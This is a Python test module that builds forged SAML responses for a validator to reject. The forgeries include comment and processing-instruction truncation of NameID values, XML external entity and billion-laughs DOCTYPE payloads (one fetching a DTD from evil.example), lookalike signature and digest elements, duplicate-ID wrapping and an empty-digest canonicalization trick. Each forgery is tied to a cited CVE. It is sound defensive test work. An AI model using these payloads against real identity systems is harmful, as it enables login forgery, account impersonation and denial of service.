"""Messages that two readers read differently: split texts, odd names, doubled identifiers."""

from __future__ import annotations

import copy

from lxml import etree

from tests.forgeries.forgery import Forgery
from tests.forgeries.forging import (
    DS,
    FORGED_USER,
    NAME_ID,
    SAML,
    SAMLP,
    USER,
    octets,
    put_extensions,
    signature_of,
    signed,
)
from tests.support.bases import build

FRAGILE = "Fragile Lock"
TRUNCATION = "VU#475445"


def comment_truncation() -> bytes:
    """The signature is good: the attacker owns the longer name and splits it behind the other."""
    longer = build("response", [(f"{USER}</saml:NameID>", f"{USER}.evil.example</saml:NameID>")])
    root = etree.fromstring(longer)
    name_id = next(root.iter(NAME_ID))
    comment = etree.Comment("")
    name_id.text, comment.tail = USER, ".evil.example"
    name_id.append(comment)
    return octets(root)


def comment_in_an_attribute_value() -> bytes:
    return build("response", after=[(">mlind@example.org<", ">admin@example.org<!-- -->.x<")])


def instruction_truncation() -> bytes:
    split = (f"{USER}</saml:NameID>", f"{USER}<?x?>.evil.example</saml:NameID>")
    return build("response", [split])


def element_in_audience() -> bytes:
    audience = "<saml:Audience>https://sp.example.org/saml"
    return build("response", [(audience, f'{audience}<x xmlns="urn:example:x">/</x>')])


def comment_in_certificate() -> bytes:
    """KeyInfo is not signed."""
    return build("response", after=[("<ds:X509Certificate>MII", "<ds:X509Certificate>MII<!---->")])


def document_type() -> bytes:
    return build("response", after=[("<samlp:Response", "<!DOCTYPE r>\n<samlp:Response")])


def _with_subset(subset: str) -> bytes:
    start = "<samlp:Response"
    return build("response", after=[(start, f"<!DOCTYPE r [{subset}]>\n{start}")])


def entity() -> bytes:
    return _with_subset(f'<!ENTITY who "{FORGED_USER}">')


def external_entity() -> bytes:
    return _with_subset('<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;')


def notation() -> bytes:
    return _with_subset('<!NOTATION n SYSTEM "x">')


def billion_laughs() -> bytes:
    levels = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "lol">' for n in range(10)
    )
    return _with_subset(levels)


def double_colon() -> bytes:
    return build("response", after=[("<samlp:Status>", '<samlp:Status ::x="1">')])


def empty_local_name() -> bytes:
    return build("response", after=[("<samlp:Status>", '<samlp:Status x:="1">')])


def second_root() -> bytes:
    return build("response", after=[("</samlp:Response>", "</samlp:Response><samlp:Response/>")])


def text_behind_the_root() -> bytes:
    return build("response", after=[("</samlp:Response>", "</samlp:Response>forged")])


def new_name() -> bytes:
    """A name that the fifth edition of XML allows and earlier ones do not."""
    extensions = '<samlp:Extensions><x\u0220 xmlns="urn:example:x"/></samlp:Extensions>'
    return build("response", after=[("<samlp:Status>", f"{extensions}<samlp:Status>")])


def undeclared_prefix() -> bytes:
    return build("response", after=[("<samlp:Status>", '<samlp:Status x:ID="_1">')])


def lookalike() -> bytes:
    root, _ = signed()
    evil = etree.SubElement(root, "{urn:example:assertion}Assertion")
    etree.SubElement(evil, "{urn:example:assertion}NameID").text = FORGED_USER
    return octets(root)


def lookalike_signature() -> bytes:
    """The real signature stands behind one in a namespace that only looks like it."""
    root, assertion = signed()
    evil = etree.Element("{http://www.w3.org/2000/09/xmldsig}Signature")
    signature_of(assertion).addprevious(evil)
    return octets(root)


def lookalike_digest_in_extensions() -> bytes:
    root, _ = signed()
    digest = etree.Element("{urn:example:x}DigestValue")
    digest.text = "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="
    put_extensions(root, digest)
    return octets(root)


def second_id_attribute() -> bytes:
    root, assertion = signed()
    root.set(f"{{{SAMLP}}}ID", str(assertion.get("ID")))
    return octets(root)


def lower_case_id() -> bytes:
    root, assertion = signed()
    assertion.set("id", "_f0e1")
    return octets(root)


def second_kind_of_id() -> bytes:
    root, assertion = signed()
    state = etree.Element("{urn:example:x}State", id=str(assertion.get("ID")))
    put_extensions(root, state)
    return octets(root)


def reserved_attribute() -> bytes:
    """A reader that takes it for a declaration sees an assertion of another namespace."""
    return build("response", after=[("<saml:Assertion ", '<saml:Assertion samlp:xmlns="urn:x" ')])


def namespace_with_a_control_character() -> bytes:
    start = "<samlp:Response"
    return build("response", after=[(start, f'{start} xmlns:x="urn:example:&#9;x"')])


def void_canonicalization() -> bytes:
    place = ("<saml:Conditions ", '<saml:Conditions xmlns:x="relative" ')
    return build("response", after=[place, (USER, FORGED_USER)])


def digest_of_nothing() -> bytes:
    root, assertion = signed()
    digest = next(root.iter(f"{{{DS}}}DigestValue"))
    digest.text = "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="
    for name_id in assertion.iter(NAME_ID):
        name_id.text = FORGED_USER
    return octets(root)


def duplicate_id() -> bytes:
    root, assertion = signed()
    root.set("ID", str(assertion.get("ID")))
    return octets(root)


def two_issuers() -> bytes:
    root, _ = signed()
    issuer = root.find(f"{{{SAML}}}Issuer")
    assert issuer is not None
    issuer.addnext(copy.deepcopy(issuer))
    return octets(root)


def _read(build: object, rule: str, row: str, cites: str, **more: object) -> Forgery:
    return Forgery(build=build, rule=rule, row=row, cites=cites, **more)  # type: ignore[arg-type]


FORGERIES = (
    _read(comment_truncation, "xml-comment-in-value", "truncation", TRUNCATION),
    _read(comment_in_an_attribute_value, "xml-comment-in-value", "truncation", TRUNCATION),
    _read(instruction_truncation, "xml-processing-instruction", "truncation", TRUNCATION),
    _read(element_in_audience, "xml-mixed-content-value", "truncation", TRUNCATION),
    _read(comment_in_certificate, "text-extraction-differential", "truncation", TRUNCATION),
    _read(document_type, "xml-doctype", "parsers", "CVE-2025-25291"),
    _read(entity, "xml-entity-declaration", "entities", "CVE-2016-10127"),
    _read(external_entity, "xml-entity-declaration", "entities", "CVE-2016-10127"),
    _read(notation, "xml-notation", "entities", "CVE-2025-25291"),
    _read(billion_laughs, "xml-entity-expansion", "entities", "Best Practices"),
    _read(double_colon, "xml-roundtrip-unstable", "round trip", "CVE-2020-29509"),
    _read(empty_local_name, "xml-roundtrip-unstable", "round trip", "CVE-2020-29509"),
    _read(second_root, "transport-multiple-root-elements", "roots", "CVE-2022-39353"),
    _read(text_behind_the_root, "transport-multiple-root-elements", "roots", "CVE-2022-39353"),
    _read(new_name, "parser-differential-multi", "parsers", "CVE-2025-25292"),
    _read(undeclared_prefix, "xml-undeclared-prefix", "parsers", "CVE-2025-66567"),
    _read(lookalike, "xml-lookalike-element", "fragile lock", FRAGILE),
    _read(lookalike_signature, "xml-lookalike-element", "fragile lock", FRAGILE),
    _read(lookalike_digest_in_extensions, "xml-lookalike-element", "fragile lock", FRAGILE),
    _read(second_id_attribute, "xml-attribute-pollution", "fragile lock", FRAGILE),
    _read(lower_case_id, "xml-attribute-pollution", "fragile lock", FRAGILE),
    _read(second_kind_of_id, "parser-id-resolution", "reuse", "CVE-2025-23369"),
    _read(reserved_attribute, "xml-reserved-namespace-misuse", "fragile lock", FRAGILE),
    _read(
        namespace_with_a_control_character,
        "xml-namespace-control-char",
        "parsers",
        "CVE-2025-25292",
    ),
    _read(void_canonicalization, "xml-relative-namespace-uri", "fragile lock", FRAGILE),
    _read(void_canonicalization, "sig-c14n-empty-output", "fragile lock", "CVE-2025-66475"),
    _read(digest_of_nothing, "sig-digest-of-empty", "fragile lock", "CVE-2025-66475"),
    _read(duplicate_id, "xml-duplicate-id", "wrapping", "SAML Core"),
    _read(two_issuers, "issuer-multiple", "wrapping", "SAML Core"),
)
